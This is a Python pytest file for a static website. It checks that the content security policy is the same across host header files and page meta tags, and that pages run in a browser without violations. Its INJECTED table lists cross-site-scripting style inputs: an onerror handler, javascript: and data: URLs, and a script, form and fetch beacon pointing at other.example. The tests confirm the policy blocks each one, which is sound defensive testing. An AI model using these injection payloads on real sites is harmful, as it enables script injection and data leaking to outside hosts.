"""The content security policy: the two host files and the tag in every page say what one module says, the pages do all
they should under it, and a script that somebody slips in does not run.

The site is served with the headers of ``deploy/_headers``, as Netlify and Cloudflare Pages read that file.
"""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest

from anchorbook.site import headers
from tests.support.browsers import Quiet, at_rest, served
from tests.support.builds import ROOT
from tests.website.test_browser import PAGE_TYPES

RULES = ROOT / "deploy" / headers.STATIC_HOST
MORE_TYPES = {
    "place map": "maps/places.html", "places": "places.html", "evidence map": "evidence-map.html", "compare": "compare.html", "shortlist": "shortlist.html",
    "workshop": "training/workshops/introduction.html", "facilitator": "training/workshops/introduction-facilitator.html", "activities": "training/activities.html",
    "self-assessment": "training/self-assessment.html", "group": "training/group.html", "cards": "training/cards.html", "blank card": "training/blank-card.html",
    "slides": "training/slides/introduction.html", "feedback form": "training/feedback-form.html", "exercises": "notebooks/workshop-exercises.html",
    "template": "contribute/template.html", "data": "data/index.html", "fields": "contribute/fields.html",
}
ALL_TYPES = PAGE_TYPES | MORE_TYPES


# ---------------------------------------------------------------- the files


def read_rules(text: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """The rules of a ``_headers`` file: for each pattern its headers."""
    rules: list[tuple[str, list[tuple[str, str]]]] = []
    for line in text.splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        if line.startswith(" "):
            name, _, value = line.strip().partition(": ")
            rules[-1][1].append((name, value))
        else:
            rules.append((line, []))
    return rules


def matches(pattern: str, address: str) -> bool:
    parts = [".*" if part == "*" else "[^/]+" if part.startswith(":") else re.escape(part) for part in pattern.split("/")]
    return re.fullmatch("/".join(parts), address) is not None


def headers_for(rules, address: str) -> dict[str, str]:
    """What a host sends with one address: the values of all rules that match, joined where they set the same header."""
    found: dict[str, str] = {}
    for pattern, values in rules:
        if matches(pattern, address):
            for name, value in values:
                found[name] = f"{found[name]}, {value}" if name in found else value
    return found


@pytest.mark.parametrize("name", [headers.NGINX, headers.STATIC_HOST])
def test_the_shipped_file_is_the_one_written_from_the_values(name):
    assert (ROOT / "deploy" / name).read_text("utf-8") == headers.files()[name], "Run: python -m anchorbook.site.headers"


def test_both_hosts_say_the_same():
    nginx = dict(re.findall(r'^    add_header (\S+) "([^"]*)" always;$', headers.nginx(), re.MULTILINE))
    assert nginx == headers_for(read_rules(RULES.read_text("utf-8")), "/index.html") == headers.headers()


def test_the_policy_lets_no_inline_code_run_and_nobody_else_in():
    for policy in (headers.policy(), headers.policy(in_a_tag=True)):
        assert "unsafe-inline" not in policy and "'unsafe-eval'" not in policy and "*" not in policy and "http" not in policy
        assert policy.startswith("default-src 'none'; ")
    assert "frame-ancestors 'self'" in headers.policy() and "frame-ancestors" not in headers.policy_tag()
    assert "file:" not in headers.policy()


def test_the_rules_keep_within_what_both_hosts_read():
    rules = read_rules(RULES.read_text("utf-8"))
    assert len(rules) <= 100
    assert all(len(line) <= 2_000 for line in RULES.read_text("utf-8").splitlines())
    for pattern, _values in rules:
        assert pattern.count("*") <= 1 and (not pattern.count("*") or pattern.endswith("/*")), pattern


def test_no_location_of_nginx_drops_the_headers():
    """One add_header in a location drops all that stand above it."""
    depth = 0
    for line in headers.nginx().splitlines():
        bare = line.split("#")[0]
        if "add_header" in bare:
            assert depth == 1, line
        if not bare.strip().startswith(('"~', "default")):
            depth += bare.count("{") - bare.count("}")
    assert depth == 0


# ---------------------------------------------------------------- what is built


def addresses(site: Path) -> list[str]:
    return ["/" + path.relative_to(site).as_posix() for path in sorted(site.rglob("*")) if path.is_file()]


def test_only_files_named_after_their_content_are_kept_for_a_year(site):
    rules = read_rules(RULES.read_text("utf-8"))
    found = set()
    for address in addresses(site):
        by_nginx = [pattern for pattern in headers.HASHED if re.search(pattern, address)]
        kept = headers_for(rules, address).get("Cache-Control")
        assert kept in (None, headers.KEPT)
        assert not kept or by_nginx, f"{address} would be kept for a year, but its name says nothing of what it holds"
        found.update(by_nginx)
    assert found == set(headers.HASHED), "a pattern fits no file"


def test_a_picture_of_a_notebook_is_named_after_all_of_it(site):
    pictures = [path for path in (site / "_images").iterdir() if re.search("^[0-9a-f]{64}$", path.stem)]
    assert pictures and all(hashlib.sha256(path.read_bytes()).hexdigest() == path.stem for path in pictures)


def test_every_page_carries_the_policy_before_anything_that_loads(pages):
    wanted = headers.policy(in_a_tag=True)
    for address, page in pages.items():
        tags = page.select("head > meta[http-equiv='Content-Security-Policy']")
        assert [tag["content"] for tag in tags] == [wanted], address
        assert tags[0].find_previous(["script", "link", "style", "img"]) is None, address


def test_no_page_has_inline_code_or_an_inline_style(pages):
    for address, page in pages.items():
        for node in page.find_all(True):
            assert not node.has_attr("style"), f"{address}: {node}"
            assert not [name for name in node.attrs if name.startswith("on")], f"{address}: {node}"
            assert node.name != "style", address
            if node.name == "script" and not node.get("src"):
                assert node.get("type") in ("application/json", "application/ld+json"), address


# ---------------------------------------------------------------- in a browser


class _Host(Quiet):
    rules = read_rules(RULES.read_text("utf-8")) if RULES.is_file() else []
    extensions_map = {**Quiet.extensions_map, ".js": "text/javascript"}  # noqa: RUF012

    def end_headers(self) -> None:
        for name, value in headers_for(self.rules, self.path.split("?")[0]).items():
            self.send_header(name, value)
        super().end_headers()


@pytest.fixture(scope="module")
def host(site):
    with served(site, _Host) as url:
        yield url


WATCH = """document.addEventListener("securitypolicyviolation", function (event) {
  window.refused(event.effectiveDirective + " refuses " + (event.blockedURI || event.sample) + " on " + location.pathname);
});"""


@pytest.fixture
def strict(chromium):
    """Opens pages and remembers what the policy refused, in them and in their frames and windows."""
    context = chromium.new_context(viewport={"width": 1280, "height": 800}, accept_downloads=True)
    refused: list[str] = []
    context.expose_binding("refused", lambda _source, said: refused.append(said))
    context.add_init_script(WATCH)
    context.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text else None)
    context.on("weberror", lambda error: refused.append(str(error.error)))

    def open_(url: str):
        page = context.new_page()
        page.goto(url)
        at_rest(page)
        return page

    open_.refused = refused
    yield open_
    context.close()


def wait_until(page, what: str) -> None:
    """Playwright's own waiting evaluates text in the page, which the policy refuses; asking from outside it does not."""
    for _ in range(100):
        if page.evaluate(what):
            return
        page.wait_for_timeout(50)
    pytest.fail(f"never true: {what}")


@pytest.mark.browser
@pytest.mark.parametrize("kind", ALL_TYPES)
def test_nothing_that_a_page_does_is_refused(strict, host, kind):
    page = strict(host + ALL_TYPES[kind])
    for stage in page.locator("[data-map-stage]").all():
        stage.scroll_into_view_if_needed()
        stage.locator("iframe").wait_for(timeout=60_000)
    page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    at_rest(page)
    assert strict.refused == []
    assert page.evaluate("getComputedStyle(document.body).fontFamily") != "\"Times New Roman\""  # its style sheets are there


@pytest.mark.browser
def test_every_type_is_a_page(pages):
    assert [kind for kind, address in ALL_TYPES.items() if address.split("?")[0] not in pages] == []


@pytest.mark.browser
def test_search_works(strict, host):
    page = strict(host + "search.html?q=pension")
    page.locator("[data-search-results] li").first.wait_for()
    assert strict.refused == []


@pytest.mark.browser
def test_explore_works(strict, host):
    page = strict(host + "explore.html")
    all_of_them = page.locator("[data-cards] [data-case]").count()
    page.locator("#explore-text").fill("solar")
    page.locator("[data-status]", has_text="of").wait_for()
    wait_until(page, "location.hash.includes('q=solar')")
    assert 0 < page.locator("[data-cards] [data-case]:visible").count() < all_of_them
    assert strict.refused == []


@pytest.mark.browser
def test_the_maps_work_in_their_frames(strict, host):
    page = strict(host + "notebooks/basildon-deprivation.html")
    page.locator("[data-map-stage]").scroll_into_view_if_needed()
    frame = page.frame_locator("iframe.map-frame")
    frame.locator("#area").select_option(index=3)
    assert frame.locator("#said").inner_text() != ""
    swatches = frame.locator(".legend span")
    assert swatches.count() == 10
    assert len({swatch.evaluate("node => getComputedStyle(node).backgroundColor") for swatch in swatches.all()}) == 10
    page.goto(host + "places.html")
    page.locator("[data-map-stage]").scroll_into_view_if_needed()
    frame = page.frame_locator("iframe")
    mark = frame.locator(".place").first
    mark.wait_for()
    box = mark.bounding_box()
    assert box["width"] >= 24 and abs(box["width"] - box["height"]) < 1
    assert strict.refused == []


@pytest.mark.browser
def test_slides_and_their_second_window_work(strict, host):
    page = strict(host + "training/slides/introduction.html")
    page.locator("[data-next]").click()
    wait_until(page, "location.hash.length > 1")
    with page.expect_popup() as opened:
        page.locator("[data-window]").click()
    notes = opened.value
    at_rest(notes)
    place = page.locator("[data-place]").inner_text()
    page.locator("[data-next]").click()
    wait_until(page, f"document.querySelector('[data-place]').textContent !== {place!r}")
    assert strict.refused == []


@pytest.mark.browser
def test_the_self_assessment_works_and_saves_a_file(strict, host):
    page = strict(host + "training/self-assessment.html")
    page.locator("main input[type=radio]:visible").first.check()
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save as a file").click()
    assert Path(saved.value.path()).stat().st_size > 20
    assert strict.refused == []


INJECTED = {
    "script element": "const it = document.createElement('script'); it.textContent = 'window.ran = 1'; document.body.append(it)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=\"missing.png\" onerror=\"window.ran = 1\">')",
    "script address": "const it = document.createElement('a'); it.href = 'javascript:window.ran=1'; document.body.append(it); it.click()",
    "data address": "const it = document.createElement('script'); it.src = 'data:text/javascript,window.ran=1'; document.body.append(it)",
    "another host": "const it = document.createElement('script'); it.src = 'https://other.example/ran.js'; document.body.append(it)",
    "frame": "const it = document.createElement('iframe'); it.src = 'https://other.example/'; document.body.append(it)",
    "form": "const it = document.createElement('form'); it.action = 'https://other.example/'; document.body.append(it); it.submit()",
    "base": "const it = document.createElement('base'); it.href = 'https://other.example/'; document.head.append(it)",
    "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color:red\">x</p>')",
    "beacon": "fetch('https://other.example/').catch(() => 0)",
}


@pytest.mark.browser
@pytest.mark.parametrize("way", INJECTED)
@pytest.mark.parametrize("by", ["the header", "the tag", "the tag, from a disk"])
def test_what_somebody_slips_in_does_not_run(strict, host, site, address, way, by):
    url = {"the header": host, "the tag": address, "the tag, from a disk": (site / "index.html").as_uri().removesuffix("index.html")}[by]
    page = strict(url + "about/licence.html")
    assert strict.refused == []
    page.evaluate(f"() => {{ {INJECTED[way]} }}")
    for _ in range(200):  # a busy computer says late what it refused
        page.wait_for_timeout(150)
        if strict.refused:
            break
    assert page.evaluate("window.ran") is None
    assert strict.refused != []
    assert page.url.startswith(url)


@pytest.mark.browser
def test_a_script_written_into_the_page_does_not_run(strict, site, tmp_path):
    """The same words in a page without the policy do run, so the test can fail."""
    text = (site / "about" / "licence.html").read_text("utf-8").replace("</main>", "<script>window.ran = 1</script></main>")
    with_policy, without = tmp_path / "with.html", tmp_path / "without.html"
    with_policy.write_text(text, "utf-8")
    without.write_text(text.replace(headers.policy_tag(), ""), "utf-8")
    assert strict(with_policy.as_uri()).evaluate("window.ran") is None
    assert strict(without.as_uri()).evaluate("window.ran") == 1


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["home", "explore", "case", "deprivation", "map", "slides", "self-assessment", "places"])
def test_from_a_disk_nothing_is_refused(strict, site, kind):
    page = strict((site / ALL_TYPES[kind]).as_uri())
    for stage in page.locator("[data-map-stage]").all():
        stage.scroll_into_view_if_needed()
        stage.locator("iframe").wait_for(timeout=60_000)
    at_rest(page)
    assert strict.refused == []


@pytest.mark.browser
def test_another_site_cannot_frame_a_page(strict, host, tmp_path):
    outside = tmp_path / "outside.html"
    outside.write_text(f'<!DOCTYPE html><iframe src="{host}about/licence.html"></iframe>', "utf-8")
    page = strict(outside.as_uri())
    assert [frame.url.startswith(host) for frame in page.frames[1:]] == [False]
    assert any("frame-ancestors" in said for said in strict.refused)
